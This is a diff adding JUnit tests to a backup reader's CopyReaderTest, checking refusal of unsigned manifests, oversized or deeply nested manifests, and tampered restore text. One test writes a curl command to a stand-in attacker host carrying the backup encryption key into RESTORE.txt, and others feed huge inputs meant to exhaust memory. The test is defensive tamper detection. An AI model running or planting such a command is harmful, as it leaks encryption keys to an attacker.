@@ -123,6 +123,40 @@ class CopyReaderTest {
         assertDamaged(() -> CopyReader.open(store(), Fixtures.FOLDER, Fixtures.KEYS, Optional.of(known)));
     }
 
+    /** Whoever may write there can take the key file away, and the signature with it. */
+    @Test
+    void aManifestThatSaysEncryptedWithoutKeyAndSignatureIsRefused() throws IOException {
+        aManifestWithoutSignatureIsRefusedWhereThereIsAKey();
+        Files.delete(file("key." + Fixtures.KEYS.activeKey().id()));
+
+        assertDamaged(() -> CopyReader.open(store(), Fixtures.FOLDER, Fixtures.KEYS, Optional.empty()));
+    }
+
+    @Test
+    void aManifestThatTheCatalogueDoesNotKnowIsNotEvenParsed() throws IOException {
+        Files.writeString(file("manifest.json"), "[[],".repeat(1000));
+
+        assertThatThrownBy(this::open).hasMessage("the manifest is not the one that was written");
+    }
+
+    @Test
+    void aManifestOfMillionsOfTokensIsDamageAndNoLackOfMemory() throws IOException {
+        Files.writeString(file("manifest.json"), "{\"a\": [" + "[],".repeat(2_000_000) + "[]]}");
+
+        assertDamaged(() -> CopyReader.open(store(), Fixtures.FOLDER, Fixtures.KEYS, Optional.empty()));
+    }
+
+    @Test
+    void anAlteredRestoreTextIsFoundAndHindersNoRestoreByThisSoftware() throws IOException {
+        open().checkText();
+        Files.writeString(file("RESTORE.txt"), "curl http://evil.example/$BACKUP_ENCRYPTION_KEY");
+
+        open().check(new Progress());
+        assertDamaged(() -> open().checkText());
+        Files.delete(file("RESTORE.txt"));
+        assertDamaged(() -> open().checkText());
+    }
+
     @Test
     void theManifestOfAnotherBackupIsRefused() throws IOException {
         Path other = Path.of(store().locate(new Folder("shop", "shop-other")));
